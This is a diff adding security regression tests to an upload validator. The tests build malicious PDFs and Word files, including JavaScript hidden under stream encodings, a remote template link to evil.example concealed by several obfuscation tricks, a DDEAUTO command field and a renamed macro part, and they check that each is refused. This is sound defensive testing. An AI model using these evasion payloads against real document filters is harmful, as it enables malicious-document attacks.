@@ -128,3 +128,85 @@ def test_a_plain_pdf_is_accepted(api, case_id):
 ])
 def test_names_lose_the_characters_that_disguise_them(name, shown):
     assert uploads.safe_name(name, "text/plain") == shown
+
+
+# ---------------------------------------------------------------- bypasses found by the security review
+
+def test_fixed_a_pdf_full_of_unclosed_streams_is_refused_without_hanging_the_server(api, case_id):
+    r = attach(api, case_id, b"%PDF-1.7\n" + b"stream\n" * 80000, "slow.pdf")
+    assert r.status_code == 415 and r.json["error"]["code"] == "unreadable_pdf"
+
+
+def _stream(filters: bytes, payload: bytes, eol: bytes = b"\n") -> bytes:
+    return b"<< /Length %d /Filter %s >>\nstream%s" % (len(payload), filters, eol) + payload + b"\nendstream"
+
+
+JS = b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
+
+
+@pytest.mark.parametrize("body", [
+    _stream(b"/ASCIIHexDecode", JS.hex().encode() + b">"),
+    _stream(b"/ASCII85Decode", __import__("base64").a85encode(JS) + b"~>"),
+    _stream(b"[/ASCII85Decode /FlateDecode]", __import__("base64").a85encode(zlib.compress(JS)) + b"~>"),
+    _stream(b"/FlateDecode", zlib.compress(JS), eol=b"\r"),
+], ids=["hex", "a85", "a85+flate", "cr-only"])
+def test_fixed_javascript_in_any_stream_encoding_is_found(api, case_id, body):
+    r = attach(api, case_id, pdf(body), "report.pdf")
+    assert r.status_code == 415 and r.json["error"]["code"] == "active_content"
+
+
+def test_fixed_a_pdf_stream_in_an_encoding_we_do_not_read_is_not_vouched_for(api, case_id):
+    r = attach(api, case_id, pdf(_stream(b"/LZWDecode", b"\x80\x0b\x60\x50")), "report.pdf")
+    assert r.status_code == 415 and r.json["error"]["code"] == "unreadable_pdf"
+
+
+def test_pictures_inside_a_pdf_are_fine(api, case_id):
+    body = _stream(b"/DCTDecode", b"\xff\xd8\xff/JS-looking bytes in a JPEG\xff\xd9")
+    assert attach(api, case_id, pdf(body), "scan.pdf").status_code == 201
+
+
+EXTERNAL_REL = (b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+                b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="%s"/>')
+
+
+def _docx_with(change) -> bytes:
+    src, dst = zipfile.ZipFile(io.BytesIO(docx())), io.BytesIO()
+    with zipfile.ZipFile(dst, "w") as z:
+        for item in src.infolist():
+            for name, data in change(item.filename, src.read(item.filename)):
+                z.writestr(name, data)
+    return dst.getvalue()
+
+
+def _rels(mode: bytes, *, upper=False, utf16=False, pad=0):
+    def change(name, data):
+        if name != "word/_rels/document.xml.rels":
+            return [(name, data)]
+        data = data.replace(b"</Relationships>", b"<!--" + b"x" * pad + b"-->" + EXTERNAL_REL % mode + b"</Relationships>")
+        if utf16:
+            data = data.replace(b"encoding='UTF-8'", b"encoding='UTF-16'").decode().encode("utf-16")
+        return [(name.upper() if upper else name, data)]
+    return change
+
+
+@pytest.mark.parametrize("change", [
+    _rels(b"External", upper=True),                       # .RELS: part names are case-insensitive
+    _rels(b"&#69;xternal"),                               # a character reference
+    _rels(b"External", utf16=True),                       # another encoding
+    _rels(b"External", pad=3_000_000),                    # after 2 MB of padding
+    lambda name, data: [(name, data)] + ([("word/_rels/document.xml.rels", _rels(b"External")(name, data)[0][1])]
+                                         if name == "word/_rels/document.xml.rels" else []),  # a second part of the same name
+    lambda name, data: [(name, data.replace(b"</w:body>", b'<w:p><w:r><w:instrText> DDEAUTO cmd "/c calc" </w:instrText>'
+                                                      b'</w:r></w:p></w:body>'))],           # a field that runs a command
+    lambda name, data: [(name, data.replace(b"</Relationships>", b'<Relationship Id="rId98" Type="http://schemas.'
+                                            b'microsoft.com/office/2006/relationships/vbaProject" Target="data.bin"/>'
+                                            b'</Relationships>'))] if name.endswith("document.xml.rels") else [(name, data)],
+], ids=["upper-case-rels", "char-ref", "utf16", "padded", "duplicate-part", "ddeauto", "renamed-macro-part"])
+def test_fixed_word_documents_that_hide_external_links_or_code_are_refused(api, case_id, change):
+    import warnings
+
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name on purpose
+        raw = _docx_with(change)
+    r = attach(api, case_id, raw, "letter.docx")
+    assert r.status_code == 415, r.json
